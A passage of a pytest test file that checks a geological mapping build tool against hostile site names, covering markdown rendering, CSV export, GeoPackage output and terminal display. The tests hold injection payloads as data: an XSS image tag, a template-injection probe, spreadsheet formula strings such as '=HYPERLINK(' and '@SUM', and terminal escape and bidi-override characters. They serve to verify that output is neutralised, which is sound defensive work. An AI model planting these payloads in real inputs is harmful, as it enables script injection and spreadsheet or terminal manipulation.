    assert {tag for tag, _ in rendered.tags} <= SAFE_MARKDOWN_TAGS
    shown = squash(" ".join(rendered.text))
    assert squash(hostile_build.recipe_name) in shown
    assert "{{7*7}}" in shown and "<img src=x onerror=alert(1)> [a](b)" in shown


@pytest.mark.slow
def test_build_csv_exports_neutralize_formulas(hostile_build):
    targets = _read_csv((hostile_build.out / "targets.csv").read_text(encoding="utf-8"))
    assert targets, "the build found no target"
    for row in targets:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            if cell.startswith("-"):
                float(cell)  # only numbers may start with "-"
    layers = (hostile_build.out / "evidence_layers.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in layers and ",=HYPERLINK" not in layers
    assert hostile_build.occurrences.exit_code == 0, hostile_build.occurrences.output
    rows = _read_csv(hostile_build.occurrences.stdout)
    names = [r["name"] for r in rows]
    assert any(n.startswith("'=HYPERLINK(") for n in names)
    assert any(n.startswith("'@SUM(1,2)") for n in names)
    assert not any(n.startswith(("=", "@", "+")) for n in names)
    assert all(float(r["lon"]) > 0 for r in rows)  # coordinates stay numbers


@pytest.mark.slow
def test_build_geopackage_keeps_hostile_names_unchanged(hostile_build):
    gpkg = hostile_build.out / "kuroko-vms.gpkg"
    layers = [name for name, _ in pyogrio.list_layers(gpkg)]
    occurrence_layer = next(n for n in layers if "occurrence" in n)
    names = set(pyogrio.read_dataframe(gpkg, layer=occurrence_layer)["name"])
    for i, payload in enumerate(hostile_build.site_names):
        assert any(n.startswith(payload + " #") for n in names), (i, payload)


@pytest.mark.slow
def test_build_figures_are_written(hostile_build):
    from PIL import Image

    png = hostile_build.out / "figures" / "prospectivity.png"
    with Image.open(png) as image:
        assert image.size[0] > 100


@pytest.mark.slow
def test_occurrence_table_on_a_terminal_shows_control_characters(hostile_build):
    """An escape sequence or a bidi override in a site name cannot rewrite the terminal."""
    assert hostile_build.table.exit_code == 0, hostile_build.table.output
    printed = hostile_build.table.stdout
    assert "\x1b" not in printed and "\u202e" not in printed
    assert "\\x1b[2J\\x1b[31mRED" in printed


@given(st.text())
def test_property_terminal_text_keeps_no_control_character(value):
    shown = terminal_text(value)
    assert not [c for c in shown if c not in "\n\t" and unicodedata.category(c) == "Cc"]
    assert not set(shown) & {"\u202a", "\u202b", "\u202c", "\u202d", "\u202e"}
